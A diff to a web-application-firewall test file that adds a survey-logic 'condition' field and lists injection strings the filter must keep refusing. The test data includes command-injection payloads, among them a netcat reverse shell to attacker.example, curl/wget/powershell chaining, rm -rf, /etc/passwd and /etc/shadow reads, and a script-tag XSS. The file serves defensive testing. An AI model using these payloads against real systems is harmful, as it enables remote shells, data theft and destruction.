@@ -22,6 +22,8 @@ from tests.waf.harness import Req, as_citizens, send
 from tests.waf.test_filter_fields import (
     BOOLEAN,
     BOOLEAN_INJECTIONS,
+    CONDITION_INJECTIONS,
+    CONDITIONS,
     FILTERS,
     FORMULA_INJECTIONS,
     FORMULAS,
@@ -124,7 +126,8 @@ def test_a_declared_text_body_type_is_read_whole(tier: Tier, profile: str) -> No
 # Declared on the d-<profile> sites (factory.SITE_RULES, SITE_FORMULA): (path, JSON key, values, injections).
 JSON_FIELDS = {"boolean-expression": ("/rules/save", "expr", BOOLEAN, BOOLEAN_INJECTIONS),
                "formula": ("/calc/evaluate", "formula", FORMULAS, FORMULA_INJECTIONS),
-               "sheet-formula": ("/sheet/api/cell", "formula", SHEET_FORMULAS, SHEET_FORMULA_INJECTIONS)}
+               "sheet-formula": ("/sheet/api/cell", "formula", SHEET_FORMULAS, SHEET_FORMULA_INJECTIONS),
+               "condition": ("/survey/api/logic", "when", CONDITIONS, CONDITION_INJECTIONS)}
 # The paranoia level from which a language's declaration changes what is refused (1: every blocking profile).
 LOAD_BEARING_FROM = {"sheet-formula": 2}
 # Values of the grammar, so the SQL rules leave them, that other rules refuse on the declaring site: a boolean
@@ -135,6 +138,7 @@ STILL_REFUSED = {
                            "(A|B) | nc -e sh attacker.example 4444", "A && ping -n 3 attacker.example",
                            "A && rm -rf tmp", "A && powershell -enc abc"],
     "formula": ["cat /etc/passwd", "x + etc/shadow"],
+    "condition": ["Q1 && curl", "Q1 && whoami", "Q1 || wget", "(Q1 == 1) && powershell"],
     "sheet-formula": ['=A1&" "&"/etc/passwd"', '="<script>alert(1)</script>"', '=A1&"../../../../etc/shadow"'],
 }
 
